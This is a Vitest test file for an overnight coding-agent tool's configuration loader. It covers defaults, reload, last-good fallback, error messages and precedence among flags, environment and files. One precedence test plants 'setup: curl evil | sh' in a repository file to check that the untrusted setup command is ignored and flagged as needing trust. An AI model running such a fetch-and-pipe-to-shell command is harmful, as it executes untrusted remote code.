import { readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { renderErrors } from '../../../src/engine/config/render.ts';
import { lastGoodFile } from '../../../src/node/config/last-good.ts';
import { createConfigSource, loadConfig } from '../../../src/node/config-file.ts';
import { createPlace, type TestPlace } from './place.ts';

async function open(place: TestPlace) {
  const source = await createConfigSource(place);
  if (!source.ok) throw new Error(renderErrors(source.error));
  return source.value;
}

describe('the configuration in force', () => {
  it('is the defaults when there is no file', async () => {
    const place = createPlace();
    const source = await open(place);
    expect(source.loaded().exists).toBe(false);
    expect(source.current()).toMatchObject({ id: 'default', repositories: [], agent: 'auto' });
    expect(source.problems()).toEqual([]);
  });

  it('is the defaults when everything in the file is commented out', async () => {
    const place = createPlace();
    place.write('# id: x\n');
    const source = await open(place);
    expect(source.loaded().exists).toBe(true);
    expect(source.current().id).toBe('default');
  });

  it('follows the file on reload', async () => {
    const place = createPlace();
    place.write('id: first\n');
    const source = await open(place);
    const hash = source.hash();
    place.write('id: second\n');
    expect((await source.reload()).ok).toBe(true);
    expect(source.current().id).toBe('second');
    expect(source.hash()).not.toBe(hash);
    expect(source.hash()).toMatch(/^[0-9a-f]{64}$/);
  });

  it('is the last good one after a restart with a broken file, and says what is wrong', async () => {
    const place = createPlace();
    place.write('\uFEFFid: good\r\nlimits:\r\n  maxTries: 2\r\n');
    await open(place);
    place.write('id: [\n');
    const source = await open(place);
    expect(source.current()).toMatchObject({ id: 'good', limits: { maxTries: 2 } });
    expect(source.problems()).toHaveLength(1);
    expect(source.notices()[0]).toMatch(/config\.yaml:2:1: /);
    place.write('id: mended\n');
    await source.reload();
    expect(source.problems()).toEqual([]);
    expect(source.current().id).toBe('mended');
  });

  it('never falls back to the last good text of another file', async () => {
    const first = createPlace();
    first.write('id: first\n');
    await open(first);
    const other = { ...createPlace(), stateDir: first.stateDir };
    other.write('id: [\n');
    expect((await open(other)).current().id).toBe('default');
  });

  it('is the defaults when neither the file nor what was kept can be used', async () => {
    const place = createPlace();
    place.write('workspace_root: $WORKSPACE\n');
    const source = await createConfigSource({ ...place, env: { ...place.env, WORKSPACE: '/w' } });
    expect(source.ok && source.value.current().repositories[0]?.path).toBe('/w');
    const restarted = await open(place);
    expect(restarted.current().repositories).toEqual([]);
    expect(restarted.problems()[0]?.message).toBe('$WORKSPACE is not set in the environment.');
  });

  it('keeps the last good text for the user alone', async () => {
    const place = createPlace();
    place.write('id: good\n');
    await open(place);
    expect(statSync(lastGoodFile(place.stateDir)).mode & 0o777).toBe(0o600);
    expect(readFileSync(lastGoodFile(place.stateDir), 'utf8')).toContain('id: good\n');
  });

  it('works without a place to keep the last good text, and says so', async () => {
    const place = createPlace();
    place.write('id: good\n');
    writeFileSync(place.stateDir, 'a file where the state folder belongs');
    const source = await open(place);
    expect(source.current().id).toBe('good');
    expect(source.notices().join('\n')).toContain('The last good configuration could not be kept');
  });

  it('fails when a flag is broken, because no older file can mend that', async () => {
    const place = createPlace();
    const source = await createConfigSource({
      ...place,
      flags: [{ path: ['limits', 'maxTries'], value: 9, said: '--tries' }],
    });
    expect(source.ok ? '' : renderErrors(source.error)).toBe(
      '--tries: Expected a number of at most 3, found 9.',
    );
  });

  it('lets a file go away: then the defaults are in force', async () => {
    const place = createPlace();
    place.write('id: good\n');
    const source = await open(place);
    rmSync(place.file);
    await source.reload();
    expect(source.current().id).toBe('default');
  });
});

describe('loading', () => {
  it('says that full_auto: false cannot make anyone be asked at night', async () => {
    const place = createPlace();
    place.write('codex:\n  full_auto: false\n');
    const loaded = await loadConfig(place);
    expect(loaded.ok ? loaded.value.notices : []).toMatchObject([
      { kind: 'note', place: { line: 2, field: 'codex.full_auto' } },
    ]);
  });

  it('reports twenty errors and how many more there are', async () => {
    const place = createPlace();
    place.write(Array.from({ length: 30 }, (_, n) => `wrong${n}: 1\n`).join(''));
    const loaded = await loadConfig(place);
    const errors = loaded.ok ? [] : loaded.error;
    expect(errors).toHaveLength(21);
    expect(errors[20]?.message).toBe('There are 10 more errors.');
  });

  it('takes what one repository lacks from the place around it', async () => {
    const place = createPlace();
    place.write('repositories:\n  - {}\n');
    const loaded = await loadConfig(place);
    expect(loaded.ok ? '' : renderErrors(loaded.error)).toBe(
      [
        `${place.file}:2:5: repositories.0.id: This is missing; expected text.`,
        `${place.file}:2:5: repositories.0.path: This is missing; expected text.`,
      ].join('\n'),
    );
  });

  it('finds the repository of a relative path beside the file, wherever it is started', async () => {
    const place = createPlace();
    place.write('repositories:\n  - id: a\n    path: ../a\n');
    const relative = path.relative(process.cwd(), place.file);
    const loaded = await loadConfig({ ...place, file: relative });
    expect(loaded.ok && loaded.value.config.repositories[0]?.path).toBe(
      path.resolve(place.folder, '../a'),
    );
  });
});

describe('precedence', () => {
  const file = 'limits:\n  maxConcurrent: 1\n  maxTries: 1\nagent: housekeeper\n';

  it('puts a flag over the environment and the environment over the file', async () => {
    const place = createPlace();
    place.write(file);
    const loaded = await loadConfig({
      ...place,
      env: {
        ...place.env,
        NIGHTKILN_MAX_CONCURRENT: '2',
        NIGHTKILN_AGENT: 'auto',
        NIGHTKILN_PLUGGED_IN: 'off',
        NIGHTKILN_WINDOW_START: '',
      },
      flags: [{ path: ['agent'], value: 'codex', said: '--agent' }],
    });
    expect(loaded.ok && loaded.value.config).toMatchObject({
      agent: 'codex',
      limits: { maxConcurrent: 2, maxTries: 1 },
      constraints: { pluggedIn: false },
      window: { start: '22:00' },
    });
  });

  it('names the variable that holds a bad value', async () => {
    const place = createPlace();
    place.write(file);
    const loaded = await loadConfig({ ...place, env: { NIGHTKILN_MAX_CONCURRENT: 'many' } });
    expect(loaded.ok ? '' : renderErrors(loaded.error)).toBe(
      'NIGHTKILN_MAX_CONCURRENT: Expected a number, found "many".',
    );
  });

  it('puts a repository file under the environment and over the user file, downwards only', async () => {
    const place = createPlace();
    place.write(`repositories:\n  - id: a\n    path: ${place.folder}\n`);
    writeFileSync(
      `${place.folder}/.nightkiln.yml`,
      'limits:\n  maxTries: 1\n  max_concurrent: 1\ndiscovery: false\nsetup: curl evil | sh\n',
    );
    const loaded = await loadConfig({ ...place, env: { NIGHTKILN_MAX_TRIES: '2' } });
    const value = loaded.ok ? loaded.value : null;
    expect(value?.config.repositories[0]).toMatchObject({
      discovery: false,
      limits: { maxConcurrent: 1 },
    });
    expect(value?.config.limits).toMatchObject({ maxConcurrent: 1, maxTries: 2 });
    expect(value?.config.repositories[0]?.setup).toBeUndefined();
    expect(value?.notices.map((notice) => [notice.kind, notice.place.line])).toEqual([
      ['needs-trust', 5],
      ['ignored', 2],
    ]);
  });

  it('does not let a broken repository file stop anything', async () => {
    const place = createPlace();
    place.write(`repositories:\n  - id: a\n    path: ${place.folder}\n`);
    writeFileSync(`${place.folder}/.overnight.yml`, 'limits: [\n');
    const loaded = await loadConfig(place);
    expect(loaded.ok && loaded.value.notices[0]).toMatchObject({
      kind: 'ignored',
      place: { file: `${place.folder}/.overnight.yml`, line: 2 },
    });
  });
});
